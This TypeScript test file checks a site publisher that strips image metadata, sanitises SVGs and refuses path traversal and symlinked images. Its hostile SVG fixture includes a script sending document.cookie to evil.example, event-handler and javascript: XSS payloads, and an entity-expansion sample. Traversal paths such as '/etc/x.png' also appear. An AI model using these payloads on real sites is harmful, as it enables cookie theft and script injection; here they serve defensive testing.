/**
 * Images as they are published: only from inside content/ (validation and publishing both
 * refuse a path out of it, an absolute path, a symlink, a type the bytes do not bear out), raster
 * images re-encoded without any metadata, SVGs rebuilt from an allow-list with their text returned.
 */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { PublishedEntry } from '../../src/content/model.ts';
import { readContentFolder } from '../../src/content/read.ts';
import { validateContent } from '../../src/content/validate.ts';
import { MediaError, publishEntryMedia } from '../../src/media/publish-media.ts';

const FIXTURE = resolve(import.meta.dirname, '../fixtures/site');
const MARKER = 'MJ-MARKER-330106198807214517';
const NAME = '蒋文涛';
let root: string;
let contentDir: string;
let outDir: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'mingjing-media-'));
  contentDir = join(root, 'content');
  outDir = join(root, 'dist');
  cpSync(FIXTURE, contentDir, { recursive: true });
  mkdirSync(join(contentDir, 'culture', 'images'));
  mkdirSync(join(root, 'outside'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const pixels = () => sharp({ create: { width: 24, height: 12, channels: 3, background: { r: 200, g: 40, b: 40 } } });

/** A PNG chunk of `type` holding `data`, with its CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

async function pngWithText(): Promise<Buffer> {
  const png = await pixels().png().toBuffer();
  const ihdrEnd = 8 + 25;
  const chunks = [
    pngChunk('tEXt', Buffer.from(`Author\0${MARKER}`, 'latin1')),
    pngChunk('iTXt', Buffer.concat([Buffer.from('Description\0\0\0\0\0', 'latin1'), Buffer.from(`${NAME} ${MARKER}`, 'utf8')])),
    pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), (await import('node:zlib')).deflateSync(Buffer.from(MARKER))])),
  ];
  return Buffer.concat([png.subarray(0, ihdrEnd), ...chunks, png.subarray(ihdrEnd)]);
}

async function jpegWithEverything(): Promise<Buffer> {
  const jpeg = await pixels()
    .jpeg()
    .withExif({ IFD0: { ImageDescription: MARKER, Artist: MARKER, Copyright: MARKER } })
    .withXmp(
      `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${NAME} ${MARKER}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>`,
    )
    .withIccProfile('p3')
    .toBuffer();
  // A JPEG comment segment (COM) right after the start-of-image marker.
  const comment = Buffer.from(`${MARKER} ${NAME}`, 'utf8');
  const header = Buffer.from([0xff, 0xfe, 0, 0]);
  header.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, comment, jpeg.subarray(2)]);
}

const entry = (src: string, id = 'poster'): PublishedEntry =>
  ({
    kind: 'culture',
    id,
    file: `content/culture/${id}.md`,
    absolutePath: join(contentDir, 'culture', `${id}.md`),
    data: { image: { src, alt: '海报' } },
  }) as unknown as PublishedEntry;

const expectClean = (bytes: Buffer) => {
  expect(bytes.includes(Buffer.from(MARKER))).toBe(false);
  expect(bytes.includes(Buffer.from(NAME))).toBe(false);
};

describe('publishing raster images', () => {
  it('re-encodes a JPEG without EXIF, XMP, ICC profile or comment', async () => {
    const input = await jpegWithEverything();
    const before = await sharp(input).metadata();
    expect(before.exif && before.xmp && before.icc).toBeTruthy(); // the test image does carry them
    expect(input.includes(Buffer.from(MARKER))).toBe(true);
    writeFileSync(join(contentDir, 'culture/images/photo.jpg'), input);
    const result = await publishEntryMedia([entry('images/photo.jpg')], outDir);
    expect(result.files).toBe(1);
    const output = readFileSync(join(outDir, 'media/culture/poster/photo.jpg'));
    expectClean(output);
    const after = await sharp(output).metadata();
    expect(after).toMatchObject({ format: 'jpeg', width: 24, height: 12 });
    expect([after.exif, after.xmp, after.icc, after.iptc, after.comments]).toEqual([undefined, undefined, undefined, undefined, undefined]);
  });

  it('re-encodes a PNG without its tEXt, iTXt and zTXt chunks', async () => {
    const input = await pngWithText();
    expect((await sharp(input).metadata()).comments?.length).toBe(3);
    writeFileSync(join(contentDir, 'culture/images/poster.png'), input);
    await publishEntryMedia([entry('images/poster.png')], outDir);
    const output = readFileSync(join(outDir, 'media/culture/poster/poster.png'));
    expectClean(output);
    for (const chunk of ['tEXt', 'iTXt', 'zTXt', 'eXIf', 'iCCP']) expect(output.includes(Buffer.from(chunk, 'latin1')), chunk).toBe(false);
    expect((await sharp(output).metadata()).comments).toBeUndefined();
  });

  it('re-encodes a WebP without EXIF or XMP', async () => {
    const input = await pixels()
      .webp()
      .withExif({ IFD0: { ImageDescription: MARKER } })
      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${MARKER}</x:xmpmeta>`)
      .toBuffer();
    expect(input.includes(Buffer.from(MARKER))).toBe(true);
    writeFileSync(join(contentDir, 'culture/images/art.webp'), input);
    await publishEntryMedia([entry('images/art.webp')], outDir);
    const output = readFileSync(join(outDir, 'media/culture/poster/art.webp'));
    expectClean(output);
    const after = await sharp(output).metadata();
    expect([after.format, after.exif, after.xmp]).toEqual(['webp', undefined, undefined]);
  });

  it('keeps a photo upright: the EXIF orientation is applied before EXIF is dropped', async () => {
    writeFileSync(join(contentDir, 'culture/images/turned.jpg'), await pixels().jpeg().withMetadata({ orientation: 6 }).toBuffer());
    await publishEntryMedia([entry('images/turned.jpg')], outDir);
    const after = await sharp(readFileSync(join(outDir, 'media/culture/poster/turned.jpg'))).metadata();
    expect([after.width, after.height, after.orientation]).toEqual([12, 24, undefined]);
  });

  it('writes the same bytes every time (reproducible builds)', async () => {
    writeFileSync(join(contentDir, 'culture/images/photo.jpg'), await jpegWithEverything());
    await publishEntryMedia([entry('images/photo.jpg')], outDir);
    const first = readFileSync(join(outDir, 'media/culture/poster/photo.jpg'));
    await publishEntryMedia([entry('images/photo.jpg')], join(root, 'again'));
    expect(readFileSync(join(root, 'again/media/culture/poster/photo.jpg')).equals(first)).toBe(true);
  });

  it('fails with a Chinese message naming the entry and image.src for a truncated image', async () => {
    writeFileSync(join(contentDir, 'culture/images/broken.jpg'), (await pixels().jpeg().toBuffer()).subarray(0, 120));
    const run = publishEntryMedia([entry('images/broken.jpg')], outDir);
    await expect(run).rejects.toThrow(MediaError);
    await expect(publishEntryMedia([entry('images/broken.jpg')], outDir)).rejects.toThrow(
      /content\/culture\/poster\.md › image\.src：.*无法解码/,
    );
  });
});

describe('publishing SVG images', () => {
  const hostile = `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="${MARKER}" onload="alert(1)" data-who="${NAME}" viewBox="0 0 100 50">
  <!-- ${NAME} ${MARKER} -->
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">设计 张某</dc:creator></rdf:RDF></metadata>
  <script>fetch('http://evil.example/?'+document.cookie)</script>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">${MARKER}</div></foreignObject>
  <style>@import url(http://evil.example/a.css); rect { fill: red }</style>
  <style>.ok { fill: url(#g) }</style>
  <linearGradient id="g"><stop offset="0" stop-color="#b8312f"/></linearGradient>
  <a href="http://evil.example/"><text>链接</text></a>
  <image href="http://evil.example/track.png" width="1" height="1"/>
  <use href="http://evil.example/sprite.svg#x"/><use xlink:href="#g"/>
  <rect class="ok" fill="url(http://evil.example/p)" style="background: url(http://evil.example/b)" width="100" height="50" onclick="x()"/>
  <rect fill="url(#g)" style="fill: red" x="1" y="1" width="1" height="1"/>
  <set attributeName="href" to="javascript:alert(1)"/>
  <text x="5" y="20">廉<tspan>洁</tspan>从家风做起</text>
  <title>清风海报</title>
  <desc>红色印章与远山</desc>
</svg>`;

  it('keeps the drawing and drops scripts, handlers, external references, comments and metadata', async () => {
    writeFileSync(join(contentDir, 'culture/images/poster.svg'), hostile);
    const result = await publishEntryMedia([entry('images/poster.svg')], outDir);
    const svg = readFileSync(join(outDir, 'media/culture/poster/poster.svg'), 'utf8');
    for (const gone of [
      '<script',
      'onload',
      'onclick',
      'foreignObject',
      '<image',
      '<a ',
      '<set',
      'evil.example',
      '@import',
      'metadata',
      'inkscape',
      'data-who',
      '<!--',
      '<?xml',
      MARKER,
      NAME,
      '张某',
    ])
      expect(svg, gone).not.toContain(gone);
    for (const kept of [
      '<text x="5" y="20">廉<tspan>洁</tspan>从家风做起</text>',
      '<title>清风海报</title>',
      'fill="url(#g)"',
      'xlink:href="#g"',
      '.ok { fill: url(#g) }',
      'viewBox="0 0 100 50"',
    ])
      expect(svg, kept).toContain(kept);
    const texts = result.texts.map((t) => t.text);
    for (const text of ['设计 张某', '廉洁从家风做起', '清风海报', '红色印章与远山', 'ok']) expect(texts).toContain(text);
    // Nothing that was dropped is reported as published, nor path data or fragment references.
    expect(texts.join('\n')).not.toMatch(/@import|链接|evil|url\(#g\)$|^#g$/m);
    expect(result.texts[0]).toMatchObject({
      file: 'content/culture/poster.md',
      field: 'image.src',
      output: 'media/culture/poster/poster.svg',
    });
  });

  it('drops CSS comments, escapes what it writes back, and returns attribute values as text', async () => {
    writeFileSync(
      join(contentDir, 'culture/images/poster.svg'),
      `<svg xmlns="http://www.w3.org/2000/svg"><style>/* ${NAME} */ .a { fill: red }</style><g id="${NAME}" aria-label='a"b&lt;c' style="fill: red /* ${MARKER} */"><text>x &amp;lt; y</text></g></svg>`,
    );
    const { texts } = await publishEntryMedia([entry('images/poster.svg')], outDir);
    const svg = readFileSync(join(outDir, 'media/culture/poster/poster.svg'), 'utf8');
    expect(svg).not.toContain(MARKER);
    expect(svg).not.toContain(`/* ${NAME}`);
    expect(svg).toContain('aria-label="a&quot;b&lt;c"');
    expect(svg).toContain('<text>x &amp;lt; y</text>');
    expect(texts.map((t) => t.text)).toEqual(expect.arrayContaining([NAME, 'a"b<c', 'x &lt; y']));
  });

  it('publishes the sample posters with their text intact', async () => {
    const sample = resolve(import.meta.dirname, '../../demo/content/culture/images/qingbai-poster.svg');
    cpSync(sample, join(contentDir, 'culture/images/qingbai.svg'));
    const { texts } = await publishEntryMedia([entry('images/qingbai.svg')], outDir);
    const svg = readFileSync(join(outDir, 'media/culture/poster/qingbai.svg'), 'utf8');
    expect(texts.map((t) => t.text)).toContain('要留清白在人间');
    expect(svg.match(/<text/g)?.length).toBe(readFileSync(sample, 'utf8').match(/<text/g)?.length);
  });

  it.each([
    [
      'entities',
      '<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
      '实体',
    ],
    ['an HTML root', '<svg-like/><html><body>x</body></html>', '图片'],
    ['broken XML', '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>', 'XML'],
  ])('refuses an SVG with %s, naming the entry and image.src', async (_what, text, found) => {
    writeFileSync(join(contentDir, 'culture/images/bad.svg'), text);
    await expect(publishEntryMedia([entry('images/bad.svg')], outDir)).rejects.toThrow(
      new RegExp(`content/culture/poster\\.md › image\\.src：.*${found}`),
    );
  });
});

describe('where an image may come from', () => {
  const withImage = (src: string) => {
    const file = join(contentDir, 'culture/published-poem.md');
    writeFileSync(file, readFileSync(file, 'utf8').replace(/^title: /m, `image:\n  src: ${src}\n  alt: 海报\ntitle: `));
  };
  const imageProblems = () => validateContent(readContentFolder(contentDir, root)).problems.filter((p) => p.field === 'image.src');

  it('accepts a PNG beside the entry', async () => {
    writeFileSync(join(contentDir, 'culture/images/ok.png'), await pixels().png().toBuffer());
    withImage('images/ok.png');
    expect(imageProblems()).toEqual([]);
  });

  it.each([
    ['../../../../tmp/x.jpg', '内容文件夹以外'],
    ['images/../../../outside/x.png', '内容文件夹以外'],
    ['/etc/x.png', '内容文件夹以外'],
    ['images/missing.png', '找不到文件'],
  ])('refuses %s', async (src, found) => {
    writeFileSync(join(root, 'outside/x.png'), await pixels().png().toBuffer());
    withImage(src);
    expect(imageProblems()).toEqual([
      expect.objectContaining({ file: 'content/culture/published-poem.md', field: 'image.src', found: expect.stringContaining(found) }),
    ]);
  });

  it('refuses an image reached through a symlink, file or folder, in validation and in publishing', async () => {
    writeFileSync(join(root, 'outside/x.png'), await pixels().png().toBuffer());
    symlinkSync(join(root, 'outside/x.png'), join(contentDir, 'culture/images/link.png'));
    symlinkSync(join(root, 'outside'), join(contentDir, 'culture/pics'));
    for (const src of ['images/link.png', 'pics/x.png']) {
      withImage(src);
      expect(imageProblems()).toEqual([expect.objectContaining({ field: 'image.src', found: expect.stringContaining('符号链接') })]);
      writeFileSync(join(contentDir, 'culture/published-poem.md'), readFileSync(join(FIXTURE, 'culture/published-poem.md')));
      await expect(publishEntryMedia([entry(src)], outDir)).rejects.toThrow(/image\.src：.*符号链接/);
    }
    await expect(publishEntryMedia([entry('../../outside/x.png')], outDir)).rejects.toThrow(/内容文件夹以外/);
  });

  it.each([
    ['text.png', Buffer.from('not an image'), '内容不是可发布的图片'],
    ['jpeg-inside.png', 'jpeg', '内容却是 JPEG'],
    ['anim.png', Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'), '内容不是可发布的图片'],
    ['page.svg', Buffer.from('<html><body>x</body></html>'), '内容不是可发布的图片'],
  ])('refuses %s: the type is read from the bytes', async (name, bytes, found) => {
    writeFileSync(join(contentDir, 'culture/images', name), bytes === 'jpeg' ? await pixels().jpeg().toBuffer() : (bytes as Buffer));
    withImage(`images/${name}`);
    expect(imageProblems()).toEqual([
      expect.objectContaining({ expected: expect.stringContaining('PNG、JPEG、WebP 或 SVG'), found: expect.stringContaining(found) }),
    ]);
  });
});
